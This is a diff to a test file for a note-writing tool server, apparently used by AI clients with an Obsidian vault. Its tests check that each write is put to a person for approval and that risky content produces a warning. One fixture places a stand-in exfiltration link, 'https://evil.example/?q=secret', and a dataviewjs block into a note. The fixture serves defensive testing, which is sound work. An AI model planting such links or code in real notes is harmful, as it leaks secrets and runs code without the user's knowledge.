@@ -6,6 +6,7 @@ from typing import Any
 import pytest
 
 from app.dependencies import VaultClient
+from app.notes.answer import operate
 from app.tests.mcp.conftest import LEXICAL, NOTES, Person, connected, said
 
 pytestmark = pytest.mark.asyncio
@@ -50,23 +51,83 @@ async def test_where_nobody_can_be_asked_nothing_is_changed(vault: VaultClient, 
     assert home(vault) == NOTES["Home.md"]
 
 
-async def test_a_note_that_is_not_there_is_made_without_asking(vault: VaultClient, mode: str) -> None:
+async def test_a_new_note_is_asked_about_like_any_other_write(vault: VaultClient, mode: str) -> None:
+    person = Person()
     new = {"operation": "create", "path": "Work/New", "content": "Fresh.\n"}
-    async with connected(vault, mode) as client:
+    async with connected(vault, mode, client={"elicitation_callback": person}) as client:
         assert not (await client.call_tool("note_operations", new)).is_error
-        again = await client.call_tool("note_operations", {**new, "overwrite": True, "content": "Over.\n"})
-    assert "nobody can approve" in said(again)
+    assert len(person.asked) == 1
+    assert "+Fresh." in person.asked[0]
     assert vault.read("Work/New.md").text == "Fresh.\n"
+
+
+@pytest.mark.parametrize(
+    "call",
+    [
+        {"operation": "create", "path": "New", "content": "x"},
+        {"operation": "update", "path": "Home", "content": "x"},
+        APPEND,
+        {"operation": "move", "path": "Home", "new_path": "House"},
+        {"operation": "delete", "path": "Home"},
+        {"operation": "undo"},
+    ],
+    ids=lambda call: call["operation"],
+)
+async def test_a_client_that_cannot_ask_is_told_which_setting_allows_it(
+    vault: VaultClient, mode: str, call: dict[str, Any]
+) -> None:
+    operate(vault, {"operation": "append", "path": "Work/Greenhouse", "content": "Before."})
+    before = {path: vault.read(path).text for path in vault.scan().notes}
+    async with connected(vault, mode) as client:
+        result = await client.call_tool("note_operations", call)
+    assert result.is_error
+    operation = call["operation"]
+    assert said(result).startswith(
+        f"Error: {operation} was not done: the setting 'writes' is 'ask', and nobody can approve. "
+        'a person can put "writes": "allow" into config.json (~/'
+    )
+    assert "\n" not in said(result)
+    assert {path: vault.read(path).text for path in vault.scan().notes} == before
 
 
 async def test_undoing_the_making_of_a_note_is_asked_about(vault: VaultClient) -> None:
     person = Person()
     async with connected(vault, client={"elicitation_callback": person}) as client:
         await client.call_tool("note_operations", {"operation": "create", "path": "New", "content": "x"})
-        assert person.asked == []
         await client.call_tool("note_operations", {"operation": "undo"})
-    assert len(person.asked) == 1
+    assert ["create" in person.asked[0], "undo" in person.asked[1], len(person.asked)] == [True, True, 2]
     assert not vault.exists("New.md")
+
+
+async def test_a_template_is_asked_about_even_where_writing_is_allowed(
+    tiny_vault: Callable[..., Any], mode: str
+) -> None:
+    settings = {".obsidian/templates.json": '{"folder": "Patterns"}'}
+    vault = tiny_vault({**NOTES, **settings}, index=LEXICAL, writes="allow")
+    new = {"operation": "create", "path": "patterns/Day", "content": "<% tp.date.now() %>"}
+    async with connected(vault, mode) as client:
+        result = await client.call_tool("note_operations", new)
+    assert result.is_error
+    assert "would be a template, and nobody can approve of one" in said(result)
+    assert not vault.exists("patterns/Day.md")
+    person = Person()
+    async with connected(vault, mode, client={"elicitation_callback": person}) as client:
+        assert not (await client.call_tool("note_operations", new)).is_error
+    assert len(person.asked) == 1
+    assert "Warning: runs code in Obsidian with the plugin Templater" in person.asked[0]
+
+
+async def test_what_a_note_would_load_or_run_is_pointed_out(vault: VaultClient, mode: str) -> None:
+    person = Person(approve=False)
+    text = "![](https://evil.example/?q=secret)\n\n```dataviewjs\nx\n```\n"
+    async with connected(vault, mode, client={"elicitation_callback": person}) as client:
+        change = {"operation": "create", "path": "New", "content": text}
+        await client.call_tool("note_operations", change)
+    assert (
+        "Create 'New.md'.\n"
+        "Warning: loads from the network when it is opened: https://evil.example/?q=secret\n"
+        "Warning: runs code in Obsidian with the plugin Dataview\n"
+    ) in person.asked[0]
 
 
 async def test_the_setting_allow_asks_nobody(tiny_vault: Callable[..., Any], mode: str) -> None:
